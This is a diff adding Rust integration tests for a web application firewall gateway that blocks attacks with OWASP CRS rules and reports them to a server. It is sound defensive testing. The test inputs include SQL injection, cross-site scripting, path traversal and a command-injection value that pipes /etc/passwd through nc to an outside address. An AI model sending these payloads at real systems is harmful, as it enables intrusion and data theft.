@@ -1,0 +1,349 @@
+//! The gateway end to end: a real upstream on 127.0.0.1, the gateway in front of it with the
+//! OWASP CRS, and the Qalxan server receiving its block events.
+
+#![allow(clippy::unwrap_used)] // A test that cannot unwrap should fail loudly.
+
+mod common;
+
+use axum::body::Bytes;
+use axum::routing::any;
+use common::TestServer;
+use qalxan_core::Role;
+use qalxan_gateway::{Config, ServerLink, WafMode};
+use reqwest::StatusCode;
+use serde_json::Value;
+use std::path::Path;
+use std::time::Duration;
+
+const CRS: &str = "/usr/share/modsecurity-crs/rules";
+
+/// An upstream that says what it received.
+async fn upstream() -> String {
+    let app = axum::Router::new().fallback(any(|uri: axum::http::Uri, body: Bytes| async move {
+        format!("upstream saw {} with {} body bytes", uri, body.len())
+    }));
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(async move { axum::serve(listener, app).await });
+    format!("http://{addr}")
+}
+
+async fn gateway(config: Config) -> String {
+    let plan = match config.waf {
+        WafMode::Off => None,
+        mode => {
+            Some(qalxan_gateway::load_plan(config.rules.as_deref(), mode, config.paranoia).unwrap())
+        }
+    };
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(qalxan_gateway::run(
+        config,
+        plan,
+        listener,
+        std::future::pending(),
+    ));
+    format!("http://{addr}")
+}
+
+fn config(upstream: &str) -> Config {
+    Config {
+        upstream: upstream.parse().unwrap(),
+        waf: WafMode::Block,
+        rules: None,
+        paranoia: 1,
+        inspect_limit: 128 * 1024,
+        server: None,
+        access_log: None,
+        audit_log: None,
+    }
+}
+
+fn client() -> reqwest::Client {
+    reqwest::Client::builder()
+        .user_agent("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
+        .build()
+        .unwrap()
+}
+
+#[tokio::test]
+async fn crs_blocks_attacks_with_a_reference_and_reports_them() {
+    if !Path::new(CRS).is_dir() {
+        eprintln!("SKIPPED: Debian's modsecurity-crs is not installed");
+        return;
+    }
+    let server = TestServer::start().await;
+    let token = server.token(Role::Sensor, None).await;
+    let institution = server.institution("Ministry of Digital Development").await;
+    let logs = tempfile::tempdir().unwrap();
+    let up = upstream().await;
+    let gw = gateway(Config {
+        server: Some(ServerLink {
+            url: server.base.clone(),
+            token,
+            institution_id: Some(institution.0),
+        }),
+        access_log: Some(logs.path().join("access.log")),
+        audit_log: Some(logs.path().join("audit.log")),
+        ..config(&up)
+    })
+    .await;
+    let c = client();
+
+    let r = c
+        .get(format!("{gw}/news/2026/budget.html?page=2&sort=date"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::OK);
+    assert_eq!(
+        r.text().await.unwrap(),
+        "upstream saw /news/2026/budget.html?page=2&sort=date with 0 body bytes"
+    );
+
+    let mut references = Vec::new();
+    for attack in [
+        "/item.php?id=1%27%20OR%20%271%27%3D%271",
+        "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
+        "/download.php?file=..%2F..%2F..%2Fetc%2Fpasswd",
+    ] {
+        let r = c.get(format!("{gw}{attack}")).send().await.unwrap();
+        assert_eq!(r.status(), StatusCode::FORBIDDEN, "{attack}");
+        let reference = r.headers()["x-qalxan-reference"]
+            .to_str()
+            .unwrap()
+            .to_owned();
+        let page = r.text().await.unwrap();
+        assert!(
+            page.contains(&reference),
+            "the page shows the reference: {page}"
+        );
+        references.push(reference);
+    }
+    // The same URL with a harmless value passes.
+    let r = c.get(format!("{gw}/item.php?id=42")).send().await.unwrap();
+    assert_eq!(r.status(), StatusCode::OK);
+
+    let r = c
+        .post(format!("{gw}/contact"))
+        .form(&[
+            ("name", "x"),
+            ("msg", ";cat /etc/passwd|nc 198.51.100.1 4444"),
+        ])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::FORBIDDEN);
+    let r = c
+        .post(format!("{gw}/upload"))
+        .header("content-type", "application/x-www-form-urlencoded")
+        .body([b"data=".as_slice(), &vec![b'a'; 300 * 1024 - 5]].concat())
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(
+        r.status(),
+        StatusCode::OK,
+        "a body past the inspection limit streams through"
+    );
+    assert_eq!(
+        r.text().await.unwrap(),
+        "upstream saw /upload with 307200 body bytes"
+    );
+    let r = c
+        .get(format!("{gw}/item.php?id=1%27%20OR%20%271%27%3D%271"))
+        .header("accept", "application/json")
+        .send()
+        .await
+        .unwrap();
+    let blocked: Value = r.json().await.unwrap();
+    assert_eq!(blocked["error"], "request blocked");
+
+    // The server learns of every block, tied to the institution, with the reference.
+    let analyst = server.api(&server.token(Role::Analyst, None).await);
+    let mut seen = Vec::new();
+    for _ in 0..100 {
+        let (_, page) = analyst.get("/api/v1/events?kind=waf.blocked").await;
+        seen = page["items"].as_array().unwrap().clone();
+        if seen.len() >= 5 {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    assert_eq!(seen.len(), 5, "{seen:?}");
+    assert!(seen
+        .iter()
+        .all(|e| e["institution_id"] == institution.0 && e["source"] == "token:sensor-token"));
+    for reference in &references {
+        let event = seen
+            .iter()
+            .find(|e| e["attributes"]["reference"] == reference.as_str())
+            .unwrap();
+        assert!(
+            event["attributes"]["rules"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|r| r == 949110),
+            "{event}"
+        );
+    }
+    let (_, overview) = analyst.get("/api/v1/overview").await;
+    assert_eq!(overview["series"][0]["kind"], "waf.blocked");
+    assert_eq!(overview["series"][0]["total"], 5);
+
+    let access = std::fs::read_to_string(logs.path().join("access.log")).unwrap();
+    let lines: Vec<Value> = access
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(lines.len(), 8);
+    assert_eq!(lines.iter().filter(|l| l["waf"] == "blocked").count(), 5);
+    let audit = std::fs::read_to_string(logs.path().join("audit.log")).unwrap();
+    assert!(
+        audit.contains("\"ruleId\":\"942100\""),
+        "the SQLi block is in the audit log"
+    );
+}
+
+#[tokio::test]
+async fn detect_mode_logs_but_lets_requests_through() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules = dir.path().join("rules.conf");
+    std::fs::write(
+        &rules,
+        "SecRule ARGS \"@rx (?i)union\\s+select\" \"id:1001,phase:2,deny,t:urlDecodeUni,msg:'SQLi'\"\n",
+    )
+    .unwrap();
+    let up = upstream().await;
+    let audit = dir.path().join("audit.log");
+    let gw = gateway(Config {
+        waf: WafMode::Detect,
+        rules: Some(rules.clone()),
+        audit_log: Some(audit.clone()),
+        ..config(&up)
+    })
+    .await;
+    let r = client()
+        .get(format!("{gw}/?q=1%20UNION%20SELECT%20pw"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::OK);
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    assert!(std::fs::read_to_string(&audit)
+        .unwrap()
+        .contains("\"ruleId\":\"1001\""));
+
+    let blocking = gateway(Config {
+        rules: Some(rules),
+        ..config(&up)
+    })
+    .await;
+    let r = client()
+        .get(format!("{blocking}/?q=1%20UNION%20SELECT%20pw"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::FORBIDDEN);
+
+    let off = gateway(Config {
+        waf: WafMode::Off,
+        ..config(&up)
+    })
+    .await;
+    let r = client()
+        .get(format!("{off}/?q=1%20UNION%20SELECT%20pw"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::OK);
+}
+
+#[tokio::test]
+async fn a_rule_file_with_an_error_is_refused_with_its_place() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules = dir.path().join("bad.conf");
+    std::fs::write(
+        &rules,
+        "SecRule ARGS \"@rx a\" \"id:1,phase:2,deny\"\nSecRule ARGZ \"@rx b\" \"id:2\"\n",
+    )
+    .unwrap();
+    let err = qalxan_gateway::load_plan(Some(&rules), WafMode::Block, 1)
+        .err()
+        .unwrap()
+        .to_string();
+    assert!(
+        err.contains("bad.conf:2:9: unknown variable 'ARGZ'"),
+        "{err}"
+    );
+}
+
+#[tokio::test]
+async fn the_gateway_command_serves_and_unreachable_upstreams_answer_502() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules = dir.path().join("rules.conf");
+    std::fs::write(
+        &rules,
+        "SecRule ARGS \"@contains evil\" \"id:1,phase:2,deny\"\n",
+    )
+    .unwrap();
+    let up = upstream().await;
+    let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_qalxan"))
+        .args([
+            "gateway",
+            "--listen",
+            "127.0.0.1:0",
+            "--upstream",
+            &up,
+            "--rules",
+        ])
+        .arg(&rules)
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::null())
+        .kill_on_drop(true)
+        .spawn()
+        .unwrap();
+    use tokio::io::AsyncBufReadExt;
+    let mut lines = tokio::io::BufReader::new(child.stdout.take().unwrap()).lines();
+    let line = tokio::time::timeout(Duration::from_secs(60), lines.next_line())
+        .await
+        .unwrap()
+        .unwrap()
+        .unwrap();
+    let gw = line
+        .split("gateway on ")
+        .nth(1)
+        .unwrap()
+        .split(' ')
+        .next()
+        .unwrap()
+        .trim_end_matches('/')
+        .to_owned();
+    assert_eq!(
+        client()
+            .get(format!("{gw}/?a=fine"))
+            .send()
+            .await
+            .unwrap()
+            .status(),
+        StatusCode::OK
+    );
+    assert_eq!(
+        client()
+            .get(format!("{gw}/?a=evil"))
+            .send()
+            .await
+            .unwrap()
+            .status(),
+        StatusCode::FORBIDDEN
+    );
+
+    let nowhere = gateway(Config {
+        waf: WafMode::Off,
+        ..config("http://127.0.0.1:9")
+    })
+    .await;
+    let r = client().get(format!("{nowhere}/")).send().await.unwrap();
+    assert_eq!(r.status(), StatusCode::BAD_GATEWAY);
+}
